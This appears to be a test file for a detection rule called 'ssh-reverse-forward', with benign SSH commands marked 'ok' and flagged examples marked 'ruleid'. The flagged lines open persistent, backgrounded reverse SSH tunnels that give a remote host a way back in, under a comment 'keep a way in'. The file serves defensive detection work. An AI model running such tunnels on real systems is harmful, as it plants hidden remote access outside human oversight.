#!/bin/bash
set -euo pipefail

HOST=203.0.113.5
KEY=~/.ssh/deploy_key

# look around first
# ok: ssh-reverse-forward
ssh -i "$KEY" ops@$HOST 'grep -R Port /etc/ssh'
# ok: ssh-reverse-forward
ssh-keygen -R "$HOST"
# ok: ssh-reverse-forward
rsync -aR src/./pkg ops@$HOST:/srv/
# ok: ssh-reverse-forward
echo "never run: ssh -N -R 2222:localhost:22 ops@$HOST"

# keep a way in
# ruleid: ssh-reverse-forward
nohup ssh -i "$KEY" -NfR 2222:localhost:22 ops@$HOST >/dev/null 2>&1 &
# ruleid: ssh-reverse-forward
autossh -M 0 -f -N -o ServerAliveInterval=30 -R 0:localhost:8265 ops@$HOST
# ruleid: ssh-reverse-forward
ssh -o "RemoteForward 2222 localhost:22" -N ops@$HOST
